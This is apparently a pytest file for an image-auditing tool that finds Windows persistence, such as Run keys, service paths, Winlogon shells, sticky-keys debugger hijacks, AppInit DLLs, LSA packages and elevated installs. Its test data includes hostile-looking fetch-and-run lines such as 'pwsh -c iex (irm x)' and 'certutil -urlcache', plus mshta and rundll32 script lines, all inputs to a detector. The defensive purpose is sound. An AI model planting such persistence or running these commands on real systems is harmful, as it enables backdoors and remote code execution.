"""Checks of what a Windows guest starts by itself: what each finds, and where it is silent."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from imgtools.ops.windows_persistence import looks_odd, where_from
from tests.support.checks import Case, hold, report_of
from tests.support.hives import Keys
from tests.support.windows_checks import CLIENT, Tree, case

RUN = r"Microsoft\Windows\CurrentVersion\Run"
WINLOGON = r"Microsoft\Windows NT\CurrentVersion\Winlogon"
OPTIONS = r"Microsoft\Windows NT\CurrentVersion\Image File Execution Options"
OF_WINDOWS = r"Microsoft\Windows NT\CurrentVersion\Windows"
SESSION = r"CCS\Control\Session Manager"
SERVICES = r"CCS\Services"
INSTALLER = r"Policies\Microsoft\Windows\Installer"
CACHE = r"Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree"
ENCODED = "powershell -nop -enc " + base64.b64encode(b"a script of some length").decode()
NET_OLD, NET_NEW = "/Windows/Microsoft.NET/Framework64/v2.0.50727/mscorwks.dll", "/Windows/assembly/GAC_MSIL"
POWERSHELL = (
    f"{NET_NEW}/System.Management.Automation/1.0.0.0__31bf3856ad364e35/System.Management.Automation.dll"
)


def service(name: str, path: str, start: int = 2, kind: int = 0x10) -> Keys:
    """A service with a program."""
    return {rf"{SERVICES}\{name}": {"Type": kind, "Start": start, "ImagePath": path}}


def task(command: str, *, user: str = "S-1-5-18", enabled: str = "true") -> dict[str, Any]:
    """A scheduled task called Job: what a tree is made of."""
    text = (
        '<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
        f"<Principals><Principal><UserId>{user}</UserId></Principal></Principals>"
        f"<Settings><Enabled>{enabled}</Enabled></Settings>"
        f"<Actions><Exec><Command>{command}</Command></Exec></Actions></Task>"
    )
    return {"software": {rf"{CACHE}\Job": {"Id": "{1}"}}, "files": {"/Windows/System32/Tasks/Job": text}}


CASES = (
    case(
        "windows-run-keys",
        Tree(
            software={
                RUN: {
                    "a": r'"C:\ProgramData\x\a.exe" -q',
                    "b": r"%windir%\system32\SecurityHealthSystray.exe",
                },
                rf"{RUN}Once": {"c": ENCODED},
                rf"WOW6432Node\{RUN}": {"d": r"\\server\share\d.exe"},
            },
            user={
                rf"Software\{RUN}": {"e": r"C:\Users\alice\AppData\Local\Temp\e.exe", "f": "OneDrive.exe /x"}
            },
        ),
        rf"SOFTWARE {RUN}\a",
        rf"SOFTWARE {RUN}Once\c",
        rf"SOFTWARE WOW6432Node\{RUN}\d",
        rf"alice Software\{RUN}\e",
        good=Tree(
            software={RUN: {"a": r'"C:\Program Files\x\a.exe"', "b": r"%ProgramFiles%\b.exe"}},
            user={
                rf"Software\{RUN}": {
                    "OneDrive": r'"C:\Users\alice\AppData\Local\Microsoft\OneDrive.exe" /background'
                }
            },
        ),
        fixed=False,
    ),
    case(
        "windows-service-programs",
        Tree({**service("nginx", r"C:\nginx\nginx.exe"), **service("odd", r'"C:\Users\bob\x y.exe" -s')}),
        rf"SYSTEM {SERVICES}\nginx",
        rf"SYSTEM {SERVICES}\odd",
        good=Tree(
            {
                **service("off", r"C:\nginx\nginx.exe", 4),
                **service("own", r'"C:\Program Files\a b\c.exe" -s'),
                **service("def", r'"%ProgramData%\Microsoft\Windows Defender\Platform\MsMpEng.exe"'),
                **service("drv", r"System32\drivers\x.sys", 0, 1),
            }
        ),
        fixed=False,
    ),
    case(
        "windows-service-paths",
        Tree(
            {
                **service("a", r"C:\Program Files\My App\a.exe -k x"),
                **service("b", r"C:\Program Files\b.exe", 4),
            }
        ),
        rf"SYSTEM {SERVICES}\a\ImagePath",
        rf"SYSTEM {SERVICES}\b\ImagePath",
        good=Tree(
            {**service("a", r'"C:\Program Files\My App\a.exe" -k x'), **service("b", r"C:\b\c.exe -a b")}
        ),
    ),
    case(
        "windows-logon-programs",
        Tree(
            software={
                WINLOGON: {
                    "Shell": "explorer.exe, evil.exe",
                    "Userinit": r"C:\Windows\system32\userinit.exe,x.exe",
                }
            },
            user={r"Software\Microsoft\Windows NT\CurrentVersion\Winlogon": {"Shell": "cmd.exe"}},
        ),
        rf"SOFTWARE {WINLOGON}\Shell",
        rf"SOFTWARE {WINLOGON}\Userinit",
        r"alice Software\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell",
        good=Tree(
            software={WINLOGON: {"Shell": "Explorer.exe", "Userinit": r"C:\WINDOWS\System32\userinit.exe,"}}
        ),
        fixed=False,
    ),
    case(
        "windows-image-debuggers",
        Tree(software={rf"{OPTIONS}\sethc.exe": {"Debugger": r"C:\Windows\System32\cmd.exe"}}),
        rf"SOFTWARE {OPTIONS}\sethc.exe\Debugger",
        good=Tree(software={rf"{OPTIONS}\sethc.exe": {"MitigationOptions": 1}}),
    ),
    case(
        "windows-image-debuggers",
        Tree(
            software={rf"{OPTIONS}\taskmgr.exe": {"Debugger": "procexp.exe"}},
            files={"/Windows/System32/cmd.exe": b"MZ1", "/Windows/System32/utilman.exe": b"MZ1"},
        ),
        rf"SOFTWARE {OPTIONS}\taskmgr.exe\Debugger",
        "/Windows/System32/utilman.exe",
        good=Tree(files={"/Windows/System32/cmd.exe": b"MZ1", "/Windows/System32/utilman.exe": b"MZ2"}),
        fixed=False,
    ),
    case(
        "windows-injected-libraries",
        Tree(
            {rf"{SESSION}\AppCertDlls": {"x": r"C:\x.dll"}},
            {OF_WINDOWS: {"AppInit_DLLs": r"C:\a.dll", "LoadAppInit_DLLs": 1}},
        ),
        rf"SOFTWARE {OF_WINDOWS}\AppInit_DLLs",
        rf"SYSTEM {SESSION}\AppCertDlls\x",
        good=Tree(software={OF_WINDOWS: {"AppInit_DLLs": "", "LoadAppInit_DLLs": 1}}),
        fixed=False,
    ),
    case(
        "windows-lsa-packages",
        Tree(
            {
                r"CCS\Control\Lsa": {
                    "Notification Packages": ["scecli", "EvilPass"],
                    "Security Packages": ['""'],
                }
            }
        ),
        r"SYSTEM CCS\Control\Lsa\Notification Packages\EvilPass",
        good=Tree(
            {r"CCS\Control\Lsa": {"Authentication Packages": ["msv1_0"], "Security Packages": ["KERBEROS"]}}
        ),
        fixed=False,
    ),
    case(
        "windows-boot-programs",
        Tree({SESSION: {"BootExecute": ["autocheck autochk *", "evil /x"], "SetupExecute": ["y"]}}),
        rf"SYSTEM {SESSION}\BootExecute",
        rf"SYSTEM {SESSION}\SetupExecute",
        good=Tree({SESSION: {"BootExecute": [r"autocheck autochk /p \??\C:", "autocheck autochk *"]}}),
        fixed=False,
    ),
    case(
        "windows-tasks",
        Tree(**task(ENCODED, user="alice")),
        r"/Windows/System32/Tasks/Job \Job",
        good=Tree(**task(ENCODED, enabled="false")),
        fixed=False,
    ),
    case(
        "windows-tasks",
        Tree(**task(r"C:\jobs\a.exe")),
        r"/Windows/System32/Tasks/Job \Job",
        good=Tree(**task(r"C:\jobs\a.exe", user="alice")),
        fixed=False,
    ),
    case(
        "windows-always-elevated",
        Tree(
            software={INSTALLER: {"AlwaysInstallElevated": 1}},
            user={rf"Software\{INSTALLER}": {"AlwaysInstallElevated": 1}},
        ),
        rf"SOFTWARE {INSTALLER}\AlwaysInstallElevated",
        rf"alice Software\{INSTALLER}\AlwaysInstallElevated",
        good=Tree(software={INSTALLER: {"AlwaysInstallElevated": 0}}),
    ),
    case(
        "windows-powershell-2",
        Tree(files={POWERSHELL: b"MZ", NET_OLD: b"MZ"}),
        POWERSHELL,
        good=Tree(files={POWERSHELL: b"MZ"}),
        fixed=False,
        os={**CLIENT, "minor": 0},
    ),
)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_check(case: Case) -> None:
    hold(case)


@pytest.mark.parametrize(
    ("program", "where"),
    [
        (r"C:\Windows\System32\svchost.exe", ""),
        (r"c:/program files (x86)/a/b.exe", ""),
        (r"%CommonProgramFiles%\x.exe", ""),
        ("svchost.exe", ""),
        (r"\SystemRoot\System32\drivers\a.sys", ""),
        (r"\??\C:\Windows\System32\a.sys", ""),
        (r"C:\Windows\Temp\a.exe", "in a folder for temporary files"),
        (r"%TEMP%\a.exe", "in a folder for temporary files"),
        (r"C:\Windows\Tasks\a.exe", "in a folder that users may write to"),
        (r"C:\$Recycle.Bin\a.exe", "in a folder that users may write to"),
        (r"C:\Users\Public\a.exe", "in a user's folder"),
        (r"%AppData%\a.exe", "in a user's folder"),
        (r"C:\ProgramData\a\b.exe", "in ProgramData"),
        (r"C:\ProgramData\Microsoft\Windows Defender\Platform\a.exe", ""),
        (r"\\server\share\a.exe", "on a share"),
        (r"C:\nginx\nginx.exe", "outside of Windows and Program Files"),
        (r"C:\Windows2\a.exe", "outside of Windows and Program Files"),
        (r"C:\Program Files2\a.exe", "outside of Windows and Program Files"),
    ],
)
def test_where_a_program_lies(program: str, where: str) -> None:
    assert where_from(program) == where


@pytest.mark.parametrize(
    ("command", "is_odd"),
    [
        (ENCODED, True),
        ("powershell.exe -NoProfile -File C:\\x.ps1", False),
        ("powershell -EncodedCommand", False),
        ("pwsh -c iex (irm x)", True),
        ("mshta vbscript:x", True),
        ("certutil -urlcache -f http://x/y z", True),
        ("certutil -store", False),
        ("rundll32.exe javascript:x", True),
        ("rundll32.exe shell32.dll,Control_RunDLL", False),
        ("powershell " * 400 + "-enc", False),
    ],
)
def test_what_looks_odd(command: str, is_odd: bool) -> None:
    assert bool(looks_odd(command)) is is_odd


def test_both_halves_of_installing_with_all_rights_weigh_most() -> None:
    asked = next(one for one in CASES if one.id == "windows-always-elevated")
    found = report_of(asked, asked.bad)
    assert {finding.severity for finding in found.findings} == {"critical"}


def test_a_library_that_would_be_loaded_weighs_less() -> None:
    for build, number, severity in (("19045", 1, "high"), ("19045", 0, "low"), ("2600", 0, "high")):
        tree = Tree(software={OF_WINDOWS: {"AppInit_DLLs": "x.dll", "LoadAppInit_DLLs": number}})
        (finding,) = report_of(
            case("windows-injected-libraries", tree, os={**CLIENT, "build_id": build}), tree
        ).findings
        assert finding.severity == severity


def test_a_quoted_path_keeps_its_type_and_arguments() -> None:
    from imgtools.guest.windows.registry import open_registry
    from tests.support.checks import audited

    text = (r"%ProgramFiles%\My App\a.exe" + ' -d "C:\\x y"' + "\0").encode("utf-16-le")
    tree = Tree({rf"{SERVICES}\a": {"Type": 0x10, "Start": 2, "ImagePath": (2, text)}})
    asked = case("windows-service-paths", tree, rf"SYSTEM {SERVICES}\a\ImagePath")
    examined = audited(tree, **asked.os)
    (flaw,) = asked.shelved.check.look(examined, None)
    assert flaw.fix is not None  # type: ignore[union-attr]
    (change,) = flaw.fix(examined.files)  # type: ignore[union-attr]
    assert (change.type, change.text) == ("REG_EXPAND_SZ", '"%ProgramFiles%\\My App\\a.exe" -d "C:\\x y"')  # type: ignore[union-attr]
    with open_registry(examined.files, "/Windows") as registry:
        assert registry.control_set in change.key  # type: ignore[union-attr]


@pytest.mark.parametrize(
    ("version", "result"), [((6, 1), "not applicable"), ((6, 2), "fail"), ((0, 0), "fail")]
)
def test_powershell_2_is_all_that_windows_7_has(version: tuple[int, int], result: str) -> None:
    os = {**CLIENT, "major": version[0], "minor": version[1]}
    asked = case("windows-powershell-2", Tree(files={POWERSHELL: b"MZ", NET_OLD: b"MZ"}), os=os)
    assert report_of(asked, asked.bad).result == result
